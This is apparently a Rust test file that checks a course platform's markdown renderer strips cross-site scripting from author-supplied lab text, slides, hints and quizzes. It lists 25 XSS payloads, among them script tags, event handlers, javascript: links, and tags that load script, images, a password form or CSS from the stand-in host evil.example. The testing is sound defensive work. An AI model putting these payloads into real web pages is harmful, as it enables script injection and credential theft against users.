//! What a course's author, or whoever gave them a text, might write to have it run in a reader's page.

use super::Folder;
use sandlot_server::course::load;
use sandlot_server::course::markdown::{Setting, render};
use sandlot_server::course::slides;
use std::collections::BTreeMap;

/// Each would run something, or tell somebody, if a browser got it as it is.
const ATTACKS: [&str; 25] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#x6a;avascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/who.png)",
    "<img src=//evil.example/who.png>",
    "<body onload=alert(1)><div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<form action=//evil.example><input type=password name=p><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "`\"><img src=x onerror=alert(1)>`{{exec \"onmouseover=alert(1) x=\"}}",
    "```\"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```{{exec \"><script>alert(1)</script>}}",
];

/// No element and no attribute in the HTML runs anything or leaves the playground.
#[track_caller]
fn harmless(html: &str, attack: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start..];
        let end = tag.find('>').unwrap_or(tag.len());
        let inside = tag[1..end].to_lowercase();
        // Text between quotes is a value: its words are no attributes.
        let names: String = inside.split('"').step_by(2).collect::<Vec<_>>().join(" ");
        let element = names.split_whitespace().next().unwrap_or_default().trim_start_matches('/').to_owned();
        for bad in [
            "script", "iframe", "object", "embed", "style", "link", "form", "input", "svg", "math", "base",
            "meta",
        ] {
            assert_ne!(element, bad, "{attack} became {html}");
        }
        for attribute in names.split_whitespace().skip(1) {
            let name = attribute.split('=').next().unwrap_or_default();
            assert!(!name.starts_with("on") && name != "style" && name != "srcdoc", "{attack} became {html}");
        }
        for value in ["href=\"", "src=\""] {
            for target in inside.split(value).skip(1).filter_map(|after| after.split('"').next()) {
                let inner = target.starts_with('#') || target.starts_with("/api/v1/courses/");
                let web = value.starts_with("href") && target.starts_with("http");
                let plain = value.starts_with("href") && !target.contains(':');
                assert!(inner || web || plain, "{attack} became {html}");
            }
        }
        rest = &tag[end.min(tag.len() - 1) + 1..];
    }
}

fn setting() -> Setting {
    Setting { values: BTreeMap::new(), base: "/api/v1/courses/c/files/".to_owned() }
}

#[test]
fn nothing_that_is_written_runs_in_any_field() {
    for attack in ATTACKS {
        harmless(&render(attack, &setting()), attack);
        let values = BTreeMap::from([("v".to_owned(), attack.to_owned())]);
        harmless(&render("a [[v]] `[[v]]`", &Setting { values, ..setting() }), attack);
        for slide in slides::split(&format!("# A\n\n{attack}\n\nNote: {attack}\n")) {
            harmless(&render(&slide.text, &setting()), attack);
            harmless(&render(&slide.notes, &setting()), attack);
        }
        let folder = Folder::new();
        let quoted = serde_json::to_string(attack).unwrap();
        folder.write("labs/first/10-file.md", &format!("# {attack}\n\n{attack}\n"));
        folder.write(
            "labs/first/lab.yaml",
            &format!(
                "title: {quoted}\ndescription: {quoted}\nsteps:\n  - text: 10-file.md\n    hints: [{quoted}]\n    tasks:\n      \
                 - {{ name: t, text: {quoted}, check: {{ run: 'true' }} }}\n    quiz:\n      - name: q\n        \
                 question: {quoted}\n        choices:\n          - {{ text: {quoted}, right: true, why: {quoted} }}\n"
            ),
        );
        let course = load(&folder.path).course.unwrap();
        let Some(lab) = course.lab("first") else { panic!("{attack}: {:?}", folder.faults()) };
        let step = &lab.steps[0];
        for text in
            [&lab.description, &step.text, &step.hints[0].text, &step.tasks[0].text, &step.quiz[0].question]
        {
            harmless(&render(text, &setting()), attack);
        }
    }
}

#[test]
fn the_judge_of_these_tests_sees_what_runs() {
    for attack in ["<script>", "<img src=x onerror=a>", "<a href=\"javascript:x\">", "<p style=\"x\">"] {
        assert!(std::panic::catch_unwind(|| harmless(attack, attack)).is_err(), "{attack}");
    }
}

#[test]
fn what_is_meant_well_is_kept() {
    let text = "# A *b*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n~~x~~ <kbd>Ctrl</kbd> [x](https://a.example) \
                ![p](assets/p.png)\n\n<details><summary>More</summary>\n\nwords\n\n</details>\n\n`a < b`{{exec second interrupt}}\n\n\
                ```sh\nls > \"a\"\n```{{exec}}\n\n```\nplain\n```\n\n[the page]({{port 8080}}) [k]({{TRAFFIC_HOST1_80}})\n";
    let html = render(text, &setting());
    for wanted in [
        "<em>b</em>",
        "<td>1</td>",
        "☑ done",
        "<del>x</del>",
        "<kbd>Ctrl</kbd>",
        "href=\"https://a.example\"",
        "src=\"/api/v1/courses/c/files/assets/p.png\"",
        "<summary>More</summary>",
        "<p>words</p>",
        "data-mark=\"exec\"",
        "data-terminal=\"second\"",
        "data-interrupt=\"yes\"",
        "a &lt; b</code>",
        "data-language=\"sh\"",
        "<code>ls &gt; \"a\"\n</code>",
        "data-mark=\"copy\"",
        "href=\"#port-8080\"",
        "href=\"#port-80\"",
    ] {
        assert!(html.contains(wanted), "{wanted} is missing in {html}");
    }
    assert!(!html.contains("{{"), "{html}");
}

#[test]
fn only_declared_names_are_replaced() {
    let values = BTreeMap::from([("port".to_owned(), "4711".to_owned())]);
    let html = render("[[port]] `[[ -f x ]]` [[other]] [[", &Setting { values, ..setting() });
    assert!(html.contains("4711 <code>[[ -f x ]]</code> [[other]] [["), "{html}");
}
